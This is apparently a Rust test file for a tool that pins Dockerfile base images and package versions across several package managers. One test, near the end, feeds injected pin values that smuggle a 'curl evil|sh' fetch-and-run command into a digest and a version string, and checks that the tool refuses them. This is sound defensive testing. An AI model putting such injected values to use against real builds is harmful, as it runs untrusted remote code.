//! `lock` on `tests/data/lock-input.Dockerfile`: every package manager, continuation lines,
//! heredoc scripts, unknown and unpinnable packages, byte identity and idempotence.

use std::collections::BTreeMap;

use cairn_dockerfile::{lock, parse, Ecosystem, Error, PinTarget, Pins, UnpinnedReason};

fn data(name: &str) -> String {
    std::fs::read_to_string(format!("{}/tests/data/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

/// A fixed answer table; it records the names it was asked about.
struct Table {
    asked: std::cell::RefCell<Vec<(Ecosystem, String)>>,
}

const DIGEST: &str = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

impl Pins for Table {
    fn base_digest(&self, image_ref: &str) -> Option<String> {
        (image_ref == "debian:bookworm").then(|| DIGEST.to_string())
    }

    fn version(&self, eco: Ecosystem, name: &str) -> Option<String> {
        self.asked.borrow_mut().push((eco, name.to_string()));
        let table: BTreeMap<(Ecosystem, &str), &str> = BTreeMap::from([
            ((Ecosystem::Deb, "curl"), "7.88.1-10"),
            ((Ecosystem::Deb, "ca-certificates"), "20230311"),
            ((Ecosystem::Deb, "git"), "1:2.39.2-1.1"),
            ((Ecosystem::Deb, "tzdata"), "2024a-0"),
            ((Ecosystem::Deb, "locales"), "2.36-9"),
            ((Ecosystem::Pypi, "requests"), "2.32.3"),
            ((Ecosystem::Pypi, "flask"), "3.0.3"),
            ((Ecosystem::Pypi, "typing-extensions"), "4.12.2"),
            ((Ecosystem::Pypi, "pip-tools"), "7.4.1"),
            ((Ecosystem::Pypi, "black"), "24.4.2"),
            ((Ecosystem::Npm, "typescript"), "5.4.5"),
            ((Ecosystem::Npm, "@types/node"), "20.12.7"),
            ((Ecosystem::Npm, "yarn"), "1.22.22"),
            ((Ecosystem::Npm, "lodash"), "4.17.21"),
            ((Ecosystem::Apk, "curl"), "8.9.0-r0"),
        ]);
        table.get(&(eco, name)).map(|v| v.to_string())
    }
}

fn table() -> Table {
    Table {
        asked: Default::default(),
    }
}

#[test]
fn pins_every_package_manager_and_nothing_else() {
    let input = data("lock-input.Dockerfile");
    let df = parse(&input).unwrap();
    let pins = table();
    let locked = lock(&input, &df, &pins).unwrap();
    // Only insertions after the pinned tokens: the expected file is the input plus pins.
    assert_eq!(locked.text, data("lock-expected.Dockerfile"));

    let pinned: Vec<_> = locked
        .pinned
        .iter()
        .map(|p| (p.line, p.name.as_str(), p.pin.as_str()))
        .collect();
    assert_eq!(
        pinned,
        [
            (3, "debian:bookworm", DIGEST),
            (7, "curl", "7.88.1-10"),
            (7, "ca-certificates", "20230311"),
            (7, "git", "1:2.39.2-1.1"),
            (11, "tzdata", "2024a-0"),
            (11, "locales", "2.36-9"),
            (14, "requests", "2.32.3"),
            (14, "Flask[async]", "3.0.3"),
            (15, "Typing_Extensions", "4.12.2"),
            (16, "pip_tools", "7.4.1"),
            (19, "black", "24.4.2"),
            (20, "typescript", "5.4.5"),
            (20, "@types/node", "20.12.7"),
            (25, "yarn", "1.22.22"),
            (28, "curl", "8.9.0-r0"),
        ]
    );
    let unpinned: Vec<_> = locked
        .unpinned
        .iter()
        .map(|u| (u.line, u.token.as_str(), u.reason))
        .collect();
    assert_eq!(
        unpinned,
        [
            (9, "$EXTRA", UnpinnedReason::Variable),
            (9, "lib*-dev", UnpinnedReason::Glob),
            (9, "./local.deb", UnpinnedReason::NotAName),
            (9, "unknown-pkg", UnpinnedReason::Unknown),
            (13, "python:${PY}-slim", UnpinnedReason::Variable),
            (15, ".", UnpinnedReason::NotAName),
            (28, "nginx@edge", UnpinnedReason::Unsupported),
        ]
    );
    assert_eq!(locked.unpinned[4].target, PinTarget::BaseImage);
    assert_eq!(
        locked.unpinned[0].target,
        PinTarget::Package(Ecosystem::Deb)
    );
    // Python names are asked PEP 503-normalized; local npm installs are not asked about.
    let asked = pins.asked.borrow();
    assert!(asked.contains(&(Ecosystem::Pypi, "typing-extensions".into())));
    assert!(!asked
        .iter()
        .any(|(_, n)| n == "lodash" || n == "Typing_Extensions"));
    // The `cat <<EOF > file` heredoc is data, not a script.
    assert_eq!(asked.iter().filter(|(_, n)| n == "requests").count(), 1);
}

#[test]
fn locking_a_locked_file_changes_nothing() {
    let once = lock(
        &data("lock-input.Dockerfile"),
        &parse(&data("lock-input.Dockerfile")).unwrap(),
        &table(),
    )
    .unwrap()
    .text;
    let df = parse(&once).unwrap();
    let twice = lock(&once, &df, &table()).unwrap();
    assert_eq!(twice.text, once);
    assert!(twice.pinned.is_empty());
}

#[test]
fn quoted_chomped_heredoc_and_split_tokens() {
    // Tabs of `<<-` bodies are left in place; a token split by a continuation gets its pin
    // after its last part.
    let text = "FROM debian:bookworm@sha256:00\nRUN <<-EOF\n\tapt-get install -y \\\n\t  curl\n\tEOF\nRUN apt-get install -y cu\\\nrl\n";
    let df = parse(text).unwrap();
    let locked = lock(text, &df, &table()).unwrap();
    assert_eq!(
        locked.text,
        "FROM debian:bookworm@sha256:00\nRUN <<-EOF\n\tapt-get install -y \\\n\t  curl=7.88.1-10\n\tEOF\nRUN apt-get install -y cu\\\nrl=7.88.1-10\n"
    );
    assert_eq!(
        locked.pinned.iter().map(|p| p.line).collect::<Vec<_>>(),
        [4, 7]
    );
}

#[test]
fn non_shell_heredocs_and_exec_form_are_left_alone() {
    let text = "FROM scratch\nRUN python3 <<EOF\napt-get install curl\nEOF\nRUN <<EOF\n#!/usr/bin/env python3\napt-get install curl\nEOF\nRUN [\"apt-get\", \"install\", \"curl\"]\n";
    let df = parse(text).unwrap();
    let locked = lock(text, &df, &table()).unwrap();
    assert_eq!(locked.text, text);
    assert!(locked.pinned.is_empty() && locked.unpinned.is_empty());
}

#[test]
fn stage_references_and_text_mismatch() {
    let text = "FROM debian:bookworm AS a\nFROM a\nFROM unknown:1\n";
    let df = parse(text).unwrap();
    let locked = lock(text, &df, &table()).unwrap();
    assert_eq!(
        locked.text,
        format!("FROM debian:bookworm@{DIGEST} AS a\nFROM a\nFROM unknown:1\n")
    );
    assert_eq!(locked.unpinned.len(), 1);
    assert_eq!(locked.unpinned[0].reason, UnpinnedReason::Unknown);
    assert_eq!(
        lock("FROM other\n", &df, &table()).unwrap_err(),
        Error::TextMismatch
    );
}

/// `FROM ${BASE}` whose base comes from the default of a global `ARG`: the default is
/// pinned where it is written; a build arg that overrides it leaves the variable alone.
#[test]
fn a_base_image_from_a_global_arg_default_is_pinned_in_the_arg() {
    let text = "ARG BASE=debian:bookworm\nFROM ${BASE} AS app\nRUN true\n";
    let df = parse(text).unwrap();
    let locked = lock(text, &df, &table()).unwrap();
    assert_eq!(
        locked.text,
        format!("ARG BASE=debian:bookworm@{DIGEST}\nFROM ${{BASE}} AS app\nRUN true\n")
    );
    assert_eq!(locked.pinned[0].line, 1);
    assert!(locked.unpinned.is_empty());
    // Locked again: already pinned, nothing changes.
    let again = parse(&locked.text).unwrap();
    assert_eq!(
        lock(&locked.text, &again, &table()).unwrap().text,
        locked.text
    );
    // Overridden at build time: the ARG default is not what was built.
    let args = BTreeMap::from([("BASE".to_owned(), "debian:trixie".to_owned())]);
    let df = cairn_dockerfile::parse_with_args(text, &args).unwrap();
    let locked = lock(text, &df, &table()).unwrap();
    assert_eq!(locked.text, text);
    assert_eq!(locked.unpinned[0].reason, UnpinnedReason::Variable);
}

/// Pins come from the image, which may be hostile: a digest or version that is not one is
/// refused, never written (it could add an instruction or a shell command).
#[test]
fn pins_that_are_not_digests_or_versions_are_refused() {
    struct Hostile;
    impl Pins for Hostile {
        fn base_digest(&self, _: &str) -> Option<String> {
            Some("sha256:x\nRUN curl evil|sh".into())
        }
        fn version(&self, _: Ecosystem, _: &str) -> Option<String> {
            Some("1.0; curl evil|sh".into())
        }
    }
    let text = "FROM debian:bookworm\nRUN apt-get install -y curl\n";
    let df = parse(text).unwrap();
    let locked = lock(text, &df, &Hostile).unwrap();
    assert_eq!(locked.text, text);
    let reasons: Vec<UnpinnedReason> = locked.unpinned.iter().map(|u| u.reason).collect();
    assert_eq!(
        reasons,
        [UnpinnedReason::InvalidPin, UnpinnedReason::InvalidPin]
    );
}

/// Two stages `FROM ${BASE}`: the one ARG default is pinned once.
#[test]
fn a_global_arg_used_by_two_stages_is_pinned_once() {
    let text = "ARG BASE=debian:bookworm\nFROM ${BASE} AS a\nFROM ${BASE}\n";
    let df = parse(text).unwrap();
    let locked = lock(text, &df, &table()).unwrap();
    assert_eq!(
        locked.text,
        format!("ARG BASE=debian:bookworm@{DIGEST}\nFROM ${{BASE}} AS a\nFROM ${{BASE}}\n")
    );
    assert_eq!(locked.pinned.len(), 1);
}
